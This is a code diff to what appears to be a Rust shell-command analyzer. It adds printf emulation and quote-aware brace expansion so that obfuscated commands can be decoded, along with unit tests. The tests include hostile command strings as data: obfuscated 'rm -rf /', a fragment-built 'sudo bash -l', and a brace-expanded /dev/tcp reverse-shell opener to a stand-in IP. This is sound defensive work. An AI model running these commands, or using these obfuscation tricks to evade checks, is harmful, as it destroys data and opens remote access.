@@ -760,7 +760,8 @@ fn command_after_target(args: &[String], with_value: &[&str]) -> Option<String> 
 /// without `-e`), or the heredoc a bare `cat` reads.
 pub fn literal_output(seg: &Segment) -> Option<String> {
     match seg.cmd.as_str() {
-        "echo" | "printf" => {
+        "printf" => Some(printf(&seg.args)),
+        "echo" => {
             let t = seg
                 .args
                 .iter()
@@ -773,6 +774,56 @@ pub fn literal_output(seg: &Segment) -> Option<String> {
         "cat" if seg.args.is_empty() => seg.stdin_text.clone(),
         _ => None,
     }
+}
+
+/// What `printf FORMAT ARGS…` prints: the format's escapes decoded, `%s`,
+/// `%b` and `%c` filled from the arguments, and the format reused while
+/// arguments remain, as the shell does (`printf 'ba%s' sh` is `bash`,
+/// `printf %s r m` is `rm`). Widths are ignored; any other conversion
+/// prints its argument as written.
+#[inline(never)]
+fn printf(args: &[String]) -> String {
+    /// Rounds of a reused format: bounds `printf %s` with many arguments.
+    const MAX_ROUNDS: usize = 64;
+    let mut args = args.iter().map(String::as_str).skip_while(|a| *a == "--");
+    let Some(fmt) = args.next() else {
+        return String::new();
+    };
+    let fmt = crate::coach::text::unescape_c(fmt);
+    let rest: Vec<&str> = args.collect();
+    let (mut out, mut next) = (String::new(), 0);
+    for _ in 0..MAX_ROUNDS {
+        let before = next;
+        let mut it = fmt.chars().peekable();
+        while let Some(c) = it.next() {
+            if c != '%' {
+                out.push(c);
+                continue;
+            }
+            if it.peek() == Some(&'%') {
+                it.next();
+                out.push('%');
+                continue;
+            }
+            while it
+                .peek()
+                .is_some_and(|c| c.is_ascii_digit() || "-+ #.".contains(*c))
+            {
+                it.next();
+            }
+            let arg = rest.get(next).copied().unwrap_or("");
+            next += 1;
+            match it.next() {
+                Some('b') => out.push_str(&crate::coach::text::unescape_c(arg)),
+                Some('c') => out.extend(arg.chars().next()),
+                _ => out.push_str(arg),
+            }
+        }
+        if next == before || next >= rest.len() {
+            break;
+        }
+    }
+    out
 }
 
 /// One decoding step of a pipeline (`rev`, `base64 -d`, `xxd -r`):
@@ -1531,7 +1582,7 @@ impl<'a> Lexer<'a> {
                     let st = self.i;
                     self.i += 1;
                     let inner = self.skip_balanced(b'{', b'}');
-                    if inner.contains(',') && !inner.contains(' ') {
+                    if is_brace_list(&inner) {
                         w.brace = true;
                     }
                     w.text.push_str(&self.src[st..self.i]);
@@ -1882,6 +1933,37 @@ fn resolve_glob(word: &str) -> Option<String> {
     None
 }
 
+/// Splits `s` at the bytes `at` accepts outside quotes; `None` when a
+/// quote is left open.
+fn split_unquoted(s: &str, at: impl Fn(u8) -> bool) -> Option<Vec<&str>> {
+    let b = s.as_bytes();
+    let (mut parts, mut st, mut i) = (Vec::new(), 0, 0);
+    while i < b.len() {
+        match b[i] {
+            b'\\' => i += 1,
+            q @ (b'\'' | b'"') => {
+                i += 1 + b.get(i + 1..)?.iter().position(|&c| c == q)?;
+            }
+            c if at(c) => {
+                parts.push(&s[st..i]);
+                st = i + 1;
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    parts.push(s.get(st..).unwrap_or(""));
+    Some(parts)
+}
+
+/// `{a,b}` is a brace list when a comma and no blank sit outside quotes:
+/// `{bash,-c,'exec 5<>/dev/tcp/…'}` is three words, `{ a, b }` is a group.
+fn is_brace_list(inner: &str) -> bool {
+    split_unquoted(inner, |c| c.is_ascii_whitespace()).is_some_and(|p| p.len() == 1)
+        && split_unquoted(inner, |c| c == b',').is_some_and(|p| p.len() > 1)
+}
+
+/// A brace list's words, each with its quotes taken off as the shell does.
 fn brace_expand(w: &str) -> Vec<String> {
     let (Some(open), Some(close)) = (w.find('{'), w.rfind('}')) else {
         return vec![w.to_string()];
@@ -1891,11 +1973,29 @@ fn brace_expand(w: &str) -> Vec<String> {
     }
     let pre = &w[..open];
     let post = &w[close + 1..];
-    w[open + 1..close]
-        .split(',')
+    let inner = &w[open + 1..close];
+    split_unquoted(inner, |c| c == b',')
+        .unwrap_or_else(|| inner.split(',').collect())
+        .into_iter()
         .take(64)
-        .map(|part| format!("{pre}{part}{post}"))
+        .map(|part| format!("{pre}{}{post}", unquote(part)))
         .collect()
+}
+
+/// `part` with its quotes and backslashes taken off (no expansions).
+fn unquote(part: &str) -> String {
+    let mut out = String::with_capacity(part.len());
+    let mut quote = None;
+    let mut chars = part.chars();
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (None, '\'') | (None, '"') => quote = Some(c),
+            (Some(q), c) if c == q => quote = None,
+            (None, '\\') | (Some('"'), '\\') => out.extend(chars.next()),
+            _ => out.push(c),
+        }
+    }
+    out
 }
 
 #[cfg(test)]
@@ -2005,6 +2105,15 @@ mod tests {
     fn test_literal_substitutions_are_resolved() {
         assert_eq!(cmds("$(echo rm) -rf ~")[0], "rm -rf ~");
         assert_eq!(cmds("$(printf '\\x72\\x6d') -rf /")[0], "rm -rf /");
+        assert_eq!(cmds("sudo -- $(printf 'ba%s' sh) -l")[0], "sudo bash -l");
+        assert_eq!(cmds("$(printf %s r m) -rf /")[0], "rm -rf /");
+        assert_eq!(
+            cmds("{bash,-c,'exec 5<>/dev/tcp/203.0.113.4/443'}")[0],
+            "bash -c exec 5<>/dev/tcp/203.0.113.4/443"
+        );
+        // A group with blanks is not a list; a quoted comma does not split.
+        assert_eq!(cmds("{ echo a, b; }")[0], "echo a, b");
+        assert_eq!(cmds("echo {'a,b'}")[0], "echo {'a,b'}");
         assert_eq!(cmds("`echo cm0= | base64 -d` -rf /")[0], "rm -rf /");
         // Output with operators is not re-parsed by a shell: kept as is.
         assert!(cmds("$(echo 'a | b')")[0].starts_with("$("));
